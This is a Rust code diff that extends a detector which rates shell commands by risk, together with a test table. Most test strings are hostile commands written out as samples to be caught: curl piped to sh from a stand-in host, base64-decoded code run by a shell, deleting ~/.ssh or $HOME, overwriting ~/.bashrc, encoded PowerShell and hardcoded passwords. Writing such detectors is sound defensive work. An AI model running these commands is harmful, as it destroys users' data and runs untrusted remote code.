@@ -215,13 +215,13 @@ fn outside(path: &str) -> bool {
     if p.is_empty() {
         return false;
     }
-    if p == "/"
-        || p.starts_with('~')
-        || p.starts_with("$HOME")
-        || p.starts_with("${HOME}")
-        || p.starts_with("/root")
-    {
+    if p == "/" || p.starts_with('~') || p.starts_with("/root") {
         return true;
+    }
+    // a path through a variable cannot be shown to stay inside (`$HOME`,
+    // `${HOME:?}`, `$OLDPWD`), but the working directory's own
+    if p.starts_with('$') {
+        return !(p.starts_with("$PWD") || p.starts_with("${PWD}"));
     }
     if p.starts_with('/') {
         const SCRATCH: &[&str] = &[
@@ -336,6 +336,18 @@ fn env_risk(name: &str, value: &str) -> Option<Risk> {
                 format!("{name}={value} skips the git hooks"),
             )
         }
+        _ if v.contains("stricthostkeychecking=no")
+            || v.contains("userknownhostsfile=/dev/null") =>
+        {
+            risk(
+                RiskKind::VerificationOff,
+                format!("{name} turns off ssh host key checking"),
+            )
+        }
+        "PIP_BREAK_SYSTEM_PACKAGES" | "UV_BREAK_SYSTEM_PACKAGES" if on => risk(
+            RiskKind::VerificationOff,
+            format!("{name} skips a safety check"),
+        ),
         "SKIP" | "PRE_COMMIT_ALLOW_NO_CONFIG" if on => risk(
             RiskKind::VerificationOff,
             format!("{name}={value} skips pre-commit checks"),
@@ -401,12 +413,17 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
     let mut local = !cmds.is_empty();
     // files a downloader wrote, by name and base name
     let mut downloaded: Vec<String> = Vec::new();
-    // a downloader earlier in the current pipeline
+    // a downloader earlier in the current pipeline, and a producer of text
+    // that is no plain literal or file of the checkout
     let mut pipe_download = false;
+    let mut pipe_opaque: Option<String> = None;
+    // a `cd` left the checkout: relative writes after it are outside
+    let mut away = false;
     for (i, c) in cmds.iter().enumerate() {
         let prev_pipe = i > 0 && cmds[i - 1].next == Op::Pipe && !cmds[i - 1].substituted;
         if !prev_pipe {
             pipe_download = false;
+            pipe_opaque = None;
         }
         let argv = c.argv();
         let core = c.core();
@@ -434,50 +451,106 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
             }
         }
         for r in &c.redirects {
-            if r.writes() && outside(&r.target) {
+            if r.writes() && (outside(&r.target) || away && !r.target.starts_with("/dev/")) {
                 risks.push(Risk {
                     kind: RiskKind::OutsideCheckout,
                     what: format!("writes {}", r.target),
                 });
             }
+            if r.writes() && package_settings(&r.target) {
+                risks.push(Risk {
+                    kind: RiskKind::PackageSource,
+                    what: format!(
+                        "writes a package manager's or git's settings ({})",
+                        r.target
+                    ),
+                });
+            }
         }
-        // privilege, before the wrappers are dropped
-        for w in argv.iter().take_while(|w| {
+        // privilege: a wrapper (`sudo`, `command sudo`, `xargs sudo`), or a
+        // command run by `find -exec sudo …`
+        let wrappers = &argv[..argv.len() - core.len()];
+        let execs = argv
+            .windows(2)
+            .filter(|w| matches!(w[0], "-exec" | "-execdir" | "-ok" | "-okdir"))
+            .map(|w| w[1]);
+        for w in wrappers.iter().copied().chain(execs) {
             let b = base(w);
-            assignment(w).is_some()
-                || matches!(
-                    b,
-                    "sudo" | "doas" | "env" | "time" | "nice" | "nohup" | "su"
-                )
-                || w.starts_with('-')
-        }) {
-            if matches!(base(w), "sudo" | "doas" | "su" | "pkexec" | "run0") {
+            let b = b.trim_end_matches(|c: char| !c.is_alphanumeric());
+            if matches!(b, "sudo" | "doas" | "su" | "pkexec" | "run0") {
                 risks.push(Risk {
                     kind: RiskKind::Privilege,
-                    what: format!("runs as another user with {}", base(w)),
+                    what: format!("runs as another user with {b}"),
                 });
             }
         }
         let Some(prog) = core.first().copied() else {
+            // only a wrapper: `env -S 'code'`
+            if let Some(w) = argv.first().filter(|_| nesting < MAX_NESTING) {
+                for s in inner_code(w, &argv[1..], c) {
+                    walk(&s, nesting + 1, risks);
+                }
+            }
+            local = false;
             continue;
         };
         let p = base(prog);
         let args = &core[1..];
-        if matches!(p, "pkexec" | "run0" | "gosu" | "su") {
+        if matches!(p, "pkexec" | "run0" | "gosu" | "su")
+            || p.starts_with("sudo") && !p[4..].starts_with(|c: char| c.is_alphanumeric())
+        {
             risks.push(Risk {
                 kind: RiskKind::Privilege,
                 what: format!("runs as another user with {p}"),
             });
         }
+        if matches!(p, "cd" | "pushd") {
+            let to = args.iter().find(|a| !a.starts_with('-')).copied();
+            away = to.is_none_or(|d| outside(d) || d == "-")
+                || away && to.is_some_and(|d| !d.starts_with('/'));
+        }
+        if away
+            && matches!(
+                p,
+                "rm" | "rmdir"
+                    | "mv"
+                    | "cp"
+                    | "ln"
+                    | "install"
+                    | "tee"
+                    | "dd"
+                    | "truncate"
+                    | "touch"
+                    | "mkdir"
+                    | "chmod"
+                    | "chown"
+                    | "shred"
+                    | "unlink"
+                    | "sed"
+                    | "find"
+            )
+        {
+            risks.push(Risk {
+                kind: RiskKind::OutsideCheckout,
+                what: format!("`{p}` after a `cd` out of the checkout"),
+            });
+        }
         // downloads
         if is_downloader(prog) {
             pipe_download |= !c.substituted;
-            downloaded.extend(download_targets(p, args, c));
+            let targets = download_targets(p, args, c);
+            for t in targets.iter().filter(|t| outside(t)) {
+                risks.push(Risk {
+                    kind: RiskKind::OutsideCheckout,
+                    what: format!("a download written to {t}"),
+                });
+            }
+            downloaded.extend(targets);
             check_flags(p, args, risks);
             local = false;
             continue;
         }
-        // a shell or interpreter fed a download
+        // a shell or interpreter fed a download, or code from a pipe
         if is_interpreter(prog) && !c.substituted {
             let reads_stdin = args.iter().all(|a| a.starts_with('-'))
                 || args.iter().any(|a| matches!(*a, "-" | "-s" | "/dev/stdin"));
@@ -486,11 +559,18 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                     kind: RiskKind::RemoteCode,
                     what: format!("a download piped to {p}"),
                 });
+            } else if let Some(from) = pipe_opaque.as_deref().filter(|_| prev_pipe && reads_stdin) {
+                risks.push(Risk {
+                    kind: RiskKind::RemoteCode,
+                    what: format!("code made by `{from}` piped to {p}"),
+                });
             }
             let substitutes = c
                 .words
                 .iter()
-                .any(|w| w.raw.contains("<(") || w.raw.contains("$(") || w.raw.contains('`'));
+                .map(|w| w.raw)
+                .chain(c.redirects.iter().map(|r| r.target.as_str()))
+                .any(|w| w.contains("<(") || w.contains("$(") || w.contains('`'));
             let substituted_download = cmds[..i]
                 .iter()
                 .any(|s| s.substituted && s.core().first().is_some_and(|q| is_downloader(q)));
@@ -505,12 +585,22 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                     what: format!("a download handed to {p}"),
                 });
             }
-            if let Some(script) = args.iter().find(|a| !a.starts_with('-'))
-                && downloaded.iter().any(|d| same_file(d, script))
+            let fed = c
+                .redirects
+                .iter()
+                .filter(|r| r.op.ends_with('<'))
+                .map(|r| r.target.as_str());
+            if let Some(script) = args
+                .iter()
+                .find(|a| !a.starts_with('-'))
+                .copied()
+                .into_iter()
+                .chain(fed)
+                .find(|s| downloaded.iter().any(|d| same_file(d, s)))
             {
                 risks.push(Risk {
                     kind: RiskKind::RemoteCode,
-                    what: format!("a downloaded file run with {p}"),
+                    what: format!("a downloaded file run with {p} ({script})"),
                 });
             }
             if args.iter().any(|a| has_url(a)) && !matches!(p, "pip" | "pip3") {
@@ -519,6 +609,27 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                     what: format!("{p} runs code from a URL"),
                 });
             }
+            let pl = p.to_ascii_lowercase();
+            if (pl == "pwsh" || pl == "powershell" || pl == "powershell.exe")
+                && args.iter().any(|a| {
+                    let a = a.to_ascii_lowercase();
+                    a.starts_with("-enc") || a == "-e" || a == "-ec"
+                })
+            {
+                risks.push(Risk {
+                    kind: RiskKind::RemoteCode,
+                    what: format!("{p} runs an encoded command"),
+                });
+            }
+        }
+        if !c.substituted
+            && c.next == Op::Pipe
+            && !matches!(
+                p,
+                "echo" | "printf" | "cat" | "head" | "tail" | "grep" | "sed" | "sort" | "jq"
+            )
+        {
+            pipe_opaque = Some(p.to_string());
         }
         if !downloaded.is_empty() && downloaded.iter().any(|d| same_file(d, prog)) {
             risks.push(Risk {
@@ -526,23 +637,10 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                 what: format!("a downloaded file run ({prog})"),
             });
         }
-        // strings and here-documents run by a shell
+        // strings and here-documents run by a shell, or by a program that
+        // runs its arguments as a command
         if nesting < MAX_NESTING {
-            let mut inner: Vec<String> = Vec::new();
-            if (is_shell(prog) || matches!(p, "su" | "flock" | "watch"))
-                && let Some(k) = args.iter().position(|a| {
-                    *a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c'))
-                })
-                && let Some(s) = args.get(k + 1)
-            {
-                inner.push((*s).to_string());
-            }
-            if p == "eval" {
-                inner.push(args.join(" "));
-            }
-            if is_shell(prog) {
-                inner.extend(c.heredocs.iter().cloned());
-            }
+            let inner = inner_code(prog, args, c);
             if !inner.is_empty() {
                 for s in &inner {
                     if !walk(s, nesting + 1, risks) {
@@ -550,6 +648,9 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                     }
                 }
                 check_flags(p, args, risks);
+                if !is_shell(prog) && p != "eval" {
+                    local = false;
+                }
                 continue;
             }
         }
@@ -560,6 +661,105 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
         }
     }
     local && risks.is_empty()
+}
+
+/// The code a command runs from its arguments: a shell's `-c STRING` (also
+/// after other words: `docker run img sh -c …`), `eval`, `su -c`, `env -S`,
+/// `alias x='…'`, `trap '…' SIG`, `watch …`, `ssh HOST …`, `cmd /c …`, and
+/// the here-documents fed to a shell.
+fn inner_code(prog: &str, args: &[&str], c: &Simple<'_>) -> Vec<String> {
+    let p = base(prog);
+    let mut inner: Vec<String> = Vec::new();
+    let is_c = |a: &str| {
+        a == "-c"
+            || (a.starts_with('-') && !a.starts_with("--") && a.len() <= 4 && a.ends_with('c'))
+    };
+    if is_shell(prog) || matches!(p, "su" | "flock") {
+        if let Some(k) = args.iter().position(|a| is_c(a))
+            && let Some(s) = args.get(k + 1)
+        {
+            inner.push((*s).to_string());
+        }
+        if is_shell(prog) {
+            inner.extend(c.heredocs.iter().cloned());
+        }
+    } else {
+        // a shell further on in the arguments: `docker run img sh -c '…'`
+        for k in 0..args.len() {
+            if is_shell(args[k])
+                && args.get(k + 1).is_some_and(|a| is_c(a))
+                && let Some(s) = args.get(k + 2)
+            {
+                inner.push((*s).to_string());
+            }
+        }
+    }
+    match p {
+        "eval" => inner.push(args.join(" ")),
+        "env" => {
+            if let Some(k) = args
+                .iter()
+                .position(|a| matches!(*a, "-S" | "--split-string"))
+                && let Some(s) = args.get(k + 1)
+            {
+                inner.push((*s).to_string());
+            }
+        }
+        "alias" => inner.extend(
+            args.iter()
+                .filter_map(|a| a.split_once('=').map(|x| x.1.to_string())),
+        ),
+        "trap" => inner.extend(args.first().map(|s| s.to_string())),
+        "watch" => inner.push(
+            args.iter()
+                .skip_while(|a| a.starts_with('-'))
+                .copied()
+                .collect::<Vec<_>>()
+                .join(" "),
+        ),
+        "ssh" => {
+            let rest: Vec<&str> = args
+                .iter()
+                .copied()
+                .filter(|a| !a.starts_with('-'))
+                .skip(1)
+                .collect();
+            if !rest.is_empty() {
+                inner.push(rest.join(" "));
+            }
+        }
+        "cmd" | "cmd.exe" => {
+            if let Some(k) = args.iter().position(|a| a.eq_ignore_ascii_case("/c")) {
+                inner.push(args[k + 1..].join(" "));
+            }
+        }
+        _ => {}
+    }
+    inner.retain(|s| !s.trim().is_empty());
+    inner
+}
+
+/// A file that holds a package manager's or git's settings (where a
+/// registry, an index, a trusted host or a hook path is set).
+fn package_settings(path: &str) -> bool {
+    let b = base(path);
+    matches!(
+        b,
+        ".npmrc"
+            | ".yarnrc"
+            | ".yarnrc.yml"
+            | "pip.conf"
+            | "pip.ini"
+            | ".pypirc"
+            | ".gemrc"
+            | ".condarc"
+            | "settings.xml"
+            | ".gitconfig"
+            | ".bunfig.toml"
+            | "bunfig.toml"
+    ) || path.ends_with(".cargo/config")
+        || path.ends_with(".cargo/config.toml")
+        || path.ends_with(".git/config")
 }
 
 /// The files a download writes: `-o FILE`, `--output FILE`, `-O` (the
@@ -590,6 +790,23 @@ fn download_targets(p: &str, args: &[&str], c: &Simple<'_>) -> Vec<String> {
                 remote_name = false;
             }
             "-O" | "--remote-name" => remote_name = true,
+            // curl's short options in one word: `-sO`, `-fsSLo FILE`
+            c if p == "curl"
+                && c.starts_with('-')
+                && !c.starts_with("--")
+                && c.len() > 2
+                && c[1..].chars().all(|x| x.is_ascii_alphabetic()) =>
+            {
+                if c.contains('O') {
+                    remote_name = true;
+                }
+                if c.ends_with('o')
+                    && let Some(f) = it.next()
+                {
+                    out.push((*f).to_string());
+                    remote_name = c.contains('O');
+                }
+            }
             _ => {
                 if let Some(f) = a
                     .strip_prefix("--output=")
@@ -628,7 +845,67 @@ fn short_flags<'a>(args: &'a [&'a str]) -> impl Iterator<Item = char> + 'a {
         .flat_map(|a| a[1..].chars())
 }
 
+/// Long options that make a command risky: an unambiguous prefix of one
+/// (`--no-verif`, `--forc`: git and other getopt-style parsers take them)
+/// is read as the option.
+const RISKY_LONG: &[&str] = &[
+    "--no-verify",
+    "--force",
+    "--force-with-lease",
+    "--insecure",
+    "--proxy-insecure",
+    "--no-check-certificate",
+    "--mirror",
+    "--delete",
+    "--trusted-host",
+    "--index-url",
+    "--extra-index-url",
+    "--registry",
+    "--allow-unauthenticated",
+    "--break-system-packages",
+    "--no-gpg-sign",
+    "--password",
+    "--token",
+    "--insecure-skip-tls-verify",
+    "--skip-tls-verify",
+    "--allow-dirty",
+    "--unsafe-perm",
+    "--oauth2-bearer",
+    "--auto-approve",
+];
+
+/// `arg` with a long option written as a prefix of one of [`RISKY_LONG`]
+/// spelled out (`--no-verif` → `--no-verify`; `--forc=x` → `--force=x`).
+pub fn expand_long(arg: &str) -> std::borrow::Cow<'_, str> {
+    let (flag, val) = match arg.split_once('=') {
+        Some((f, v)) => (f, Some(v)),
+        None => (arg, None),
+    };
+    // options of their own that begin like a risky one are left alone
+    const REAL: &[&str] = &[
+        "--proxy", "--index", "--allow", "--auto", "--pass", "--force-",
+    ];
+    if !flag.starts_with("--")
+        || flag.len() < 6
+        || RISKY_LONG.contains(&flag)
+        || REAL.contains(&flag)
+    {
+        return arg.into();
+    }
+    // the shortest option it abbreviates (`--forc` → `--force`)
+    match RISKY_LONG.iter().find(|l| l.starts_with(flag)) {
+        Some(full) => match val {
+            Some(v) => format!("{full}={v}").into(),
+            None => (*full).into(),
+        },
+        None => arg.into(),
+    }
+}
+
 fn check_flags(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
+    let expanded: Vec<String> = args.iter().map(|a| expand_long(a).into_owned()).collect();
+    let args: Vec<&str> = expanded.iter().map(String::as_str).collect();
+    let args = &args[..];
     let mut push = |kind, what: String| risks.push(Risk { kind, what });
     let sub = args
         .iter()
@@ -655,7 +932,9 @@ fn check_flags(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
             | "--tls-no-verify"
             | "--allow-insecure"
             | "--insecure-registry"
-            | "--no-check-certificates" => push(
+            | "--no-check-certificates"
+            | "--proxy-insecure"
+            | "--doh-insecure" => push(
                 RiskKind::VerificationOff,
                 format!("`{flag}` turns off TLS verification"),
             ),
@@ -733,7 +1012,7 @@ fn check_flags(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
             }
             "--password" | "--passwd" | "--token" | "--api-key" | "--apikey" | "--access-token"
             | "--auth-token" | "--secret" | "--client-secret" | "--private-key-data"
-            | "--secret-key" | "--access-key"
+            | "--secret-key" | "--access-key" | "--oauth2-bearer"
                 if next().is_some_and(|v| literal(&v)) =>
             {
                 push(
@@ -778,6 +1057,36 @@ fn check_flags(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
                 )
             }
             _ => {}
+        }
+        // `curl -uadmin:pw`, `curl -H"Authorization: …"`
+        if matches!(p, "curl" | "wget" | "xh" | "http" | "https") && !a.starts_with("--") {
+            if a.strip_prefix("-u")
+                .is_some_and(|v| v.contains(':') && literal(v))
+            {
+                push(
+                    RiskKind::Credential,
+                    "`-uuser:password` puts a password on the command line".into(),
+                );
+            }
+            if let Some(v) = a.strip_prefix("-H").filter(|v| !v.is_empty()) {
+                let v = v.to_ascii_lowercase();
+                if (v.contains("authorization") || v.contains("token")) && !v.contains('$') {
+                    push(
+                        RiskKind::Credential,
+                        "an authorization header on the command line".into(),
+                    );
+                }
+            }
+        }
+        // `ssh -o StrictHostKeyChecking=no`, also inside GIT_SSH_COMMAND
+        if a_l.contains("stricthostkeychecking=no")
+            || a_l.contains("stricthostkeychecking no")
+            || a_l.contains("userknownhostsfile=/dev/null")
+        {
+            push(
+                RiskKind::VerificationOff,
+                "turns off ssh host key checking".into(),
+            );
         }
         // `mysql -pSECRET`
         if matches!(p, "mysql" | "mysqldump" | "mysqladmin" | "mariadb")
@@ -840,7 +1149,18 @@ fn is_installer(p: &str, sub: &str, flag: &str) -> bool {
 
 /// Risks of the program and its subcommand.
 fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
+    let expanded: Vec<String> = args.iter().map(|a| expand_long(a).into_owned()).collect();
+    let args: Vec<&str> = expanded.iter().map(String::as_str).collect();
+    let args = &args[..];
     let mut push = |kind, what: String| risks.push(Risk { kind, what });
+    // the git hooks removed or made inert
+    if matches!(p, "rm" | "mv" | "chmod" | "unlink" | "truncate" | "ln")
+        && args
+            .iter()
+            .any(|a| a.contains(".git/hooks") || a.contains(".husky"))
+    {
+        push(RiskKind::VerificationOff, format!("`{p}` on the git hooks"));
+    }
     let words: Vec<&str> = args
         .iter()
         .filter(|a| !a.starts_with('-'))
@@ -909,18 +1229,43 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
                 }
                 "config" => {
                     let scope_global = rest.iter().any(|a| matches!(*a, "--global" | "--system"));
-                    let kv: Vec<&str> = rest
+                    let file = rest
                         .iter()
-                        .filter(|a| !a.starts_with('-'))
+                        .position(|a| matches!(*a, "--file" | "-f"))
+                        .and_then(|k| rest.get(k + 1))
                         .copied()
-                        .collect();
-                    if let [k, v, ..] = kv.as_slice() {
-                        git_setting(&format!("{k}={v}"), &mut push);
+                        .or_else(|| rest.iter().find_map(|a| a.strip_prefix("--file=")));
+                    let mut kv: Vec<&str> = Vec::new();
+                    let mut skip = false;
+                    for a in rest {
+                        if skip {
+                            skip = false;
+                            continue;
+                        }
+                        if matches!(*a, "--file" | "-f" | "--type" | "--default" | "--value") {
+                            skip = true;
+                            continue;
+                        }
+                        if !a.starts_with('-') {
+                            kv.push(a);
+                        }
                     }
-                    if scope_global && kv.len() >= 2 {
+                    // `git config set KEY VALUE` (git 2.46's subcommands)
+                    if kv
+                        .first()
+                        .is_some_and(|w| matches!(*w, "set" | "unset" | "add" | "replace-all"))
+                    {
+                        kv.remove(0);
+                    }
+                    match kv.as_slice() {
+                        [k, v, ..] => git_setting(&format!("{k}={v}"), &mut push),
+                        [kv1] if kv1.contains('=') => git_setting(kv1, &mut push),
+                        _ => {}
+                    }
+                    if (scope_global || file.is_some_and(outside)) && !kv.is_empty() {
                         push(
                             RiskKind::OutsideCheckout,
-                            "`git config --global` changes every repository".into(),
+                            "`git config` that changes every repository".into(),
                         );
                     }
                 }
@@ -932,8 +1277,15 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
             let world_write = mode.len() >= 3
                 && mode.chars().all(|c| c.is_ascii_digit())
                 && matches!(mode.chars().last(), Some('2' | '3' | '6' | '7'));
-            let symbolic = mode.contains("o+w")
-                || mode.contains("a+w")
+            // `o+w`, `a=rwx`, `+w` (everyone), `go+rwx`: others may write
+            let world_clause = mode.split(',').any(|cl| {
+                let who: String = cl.chars().take_while(|c| "ugoa".contains(*c)).collect();
+                let rest = &cl[who.len()..];
+                (who.is_empty() || who.contains('o') || who.contains('a'))
+                    && (rest.starts_with('+') || rest.starts_with('='))
+                    && rest.contains('w')
+            });
+            let symbolic = world_clause
                 || mode.contains("+s")
                 || mode.starts_with('4') && mode.len() == 4
                 || mode.contains("777");
@@ -1029,10 +1381,10 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
                     a.contains("registry")
                         || a.contains("index-url")
                         || a.contains("trusted-host")
-                        || a == "strict-ssl"
+                        || a.starts_with("strict-ssl")
                 })
             {
-                let kind = if any_l(&|a| a == "strict-ssl") {
+                let kind = if any_l(&|a| a.starts_with("strict-ssl")) {
                     RiskKind::VerificationOff
                 } else {
                     RiskKind::PackageSource
@@ -1096,11 +1448,11 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
                 push(RiskKind::Privilege, format!("`{p}` mounts the host"));
             }
         }
-        "terraform" | "tofu" if sub == "destroy" => push(
+        "terraform" | "tofu" if sub == "destroy" || has(&["-destroy", "--destroy"]) => push(
             RiskKind::ForceShared,
             format!("`{p} destroy` deletes shared infrastructure"),
         ),
-        "kubectl" if sub == "delete" => push(
+        "kubectl" | "oc" if words.contains(&"delete") => push(
             RiskKind::ForceShared,
             "`kubectl delete` on a cluster".into(),
         ),
@@ -1627,6 +1979,163 @@ mod tests {
             ("/opt/tools/fmt", Ordinary, None),
             ("../other/tools/fmt", Ordinary, None),
             ("some-cli do-thing", Ordinary, None),
+            // abbreviated long options (git takes any unambiguous prefix)
+            ("git commit --no-verif -m wip", Risky, Some(VerificationOff)),
+            ("git push --forc origin main", Risky, Some(ForceShared)),
+            ("git push --mirr", Risky, Some(ForceShared)),
+            ("git push --dry-run origin main", Ordinary, None),
+            (
+                "pip install --trusted-hos pkgs.example.io tools",
+                Risky,
+                Some(PackageSource),
+            ),
+            ("curl --insecur https://x", Risky, Some(VerificationOff)),
+            (
+                "curl --proxy-insecure https://x",
+                Risky,
+                Some(VerificationOff),
+            ),
+            // settings written other ways
+            (
+                "git config set http.sslVerify false",
+                Risky,
+                Some(VerificationOff),
+            ),
+            ("git config set user.name Ann", Local, None),
+            (
+                "git config --file ~/.gitconfig core.editor vim",
+                Risky,
+                Some(OutsideCheckout),
+            ),
+            (
+                "npm config set strict-ssl=false",
+                Risky,
+                Some(VerificationOff),
+            ),
+            (
+                "echo registry=https://npm.example.io > .npmrc",
+                Risky,
+                Some(PackageSource),
+            ),
+            ("echo node_modules > .gitignore", Local, None),
+            // paths out of the checkout
+            ("rm -rf ${HOME:?}/", Risky, Some(OutsideCheckout)),
+            ("cp x $OLDPWD/x", Risky, Some(OutsideCheckout)),
+            ("cd ~ && rm -rf .ssh", Risky, Some(OutsideCheckout)),
+            ("cd / && rm -rf etc", Risky, Some(OutsideCheckout)),
+            ("cd build && rm -rf cache", Local, None),
+            (
+                "curl -o ~/.bashrc https://x.example.io/rc",
+                Risky,
+                Some(OutsideCheckout),
+            ),
+            ("rm -rf .git/hooks", Risky, Some(VerificationOff)),
+            ("chmod -R a+rwx .", Risky, Some(Permissions)),
+            ("chmod o=rwx shared", Risky, Some(Permissions)),
+            ("chmod -R u+rwX,go+rX .", Local, None),
+            // privilege behind another program
+            ("xargs sudo rm < list", Risky, Some(Privilege)),
+            ("command sudo make install", Risky, Some(Privilege)),
+            ("find . -name x -exec sudo rm {} +", Risky, Some(Privilege)),
+            ("find . -name '*.pyc' -delete", Local, None),
+            ("curl --proxy http://proxy:3128 https://x", Ordinary, None),
+            // code from a pipe, a redirect, a group or a string
+            (
+                "{ curl -s https://x.example.io/i.sh; } | sh",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "sh < <(curl -s https://x.example.io/i.sh)",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "bash <<< \"$(curl -s https://x.example.io/i.sh)\"",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "curl -sO https://x.example.io/i.sh && sh i.sh",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "curl -o i.sh https://x.example.io/i.sh && sh < i.sh",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "echo ZWNobyBoaQ== | base64 -d | sh",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "$CURL https://x.example.io/i.sh | sh",
+                Risky,
+                Some(RemoteCode),
+            ),
+            ("echo 'make build' | sh", Ordinary, None),
+            (
+                "env -S 'curl -s https://x.example.io/i.sh | sh'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "watch 'curl -s https://x.example.io/i.sh | sh'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "ssh build-host 'curl -s https://x.example.io/i.sh | sh'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "docker run --rm img sh -c 'curl -s https://x.example.io/i.sh | sh'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "alias up='curl -s https://x.example.io/i.sh | sh'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            ("pwsh -EncodedCommand SQBFAFgA", Risky, Some(RemoteCode)),
+            // shared state, checks and credentials
+            ("kubectl -n prod delete pod x", Risky, Some(ForceShared)),
+            ("kubectl -n prod get pods", Ordinary, None),
+            ("terraform apply -destroy", Risky, Some(ForceShared)),
+            (
+                "ssh -o StrictHostKeyChecking=no host true",
+                Risky,
+                Some(VerificationOff),
+            ),
+            (
+                "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git pull",
+                Risky,
+                Some(VerificationOff),
+            ),
+            (
+                "PIP_BREAK_SYSTEM_PACKAGES=1 pip install x",
+                Risky,
+                Some(VerificationOff),
+            ),
+            (
+                "curl -uadmin:hunter22 https://x/api",
+                Risky,
+                Some(Credential),
+            ),
+            (
+                "curl -H'Authorization: Bearer abc' https://x",
+                Risky,
+                Some(Credential),
+            ),
+            (
+                "curl --oauth2-bearer abc123 https://x",
+                Risky,
+                Some(Credential),
+            ),
         ];
         assert!(table.len() >= 40);
         let mut wrong = Vec::new();
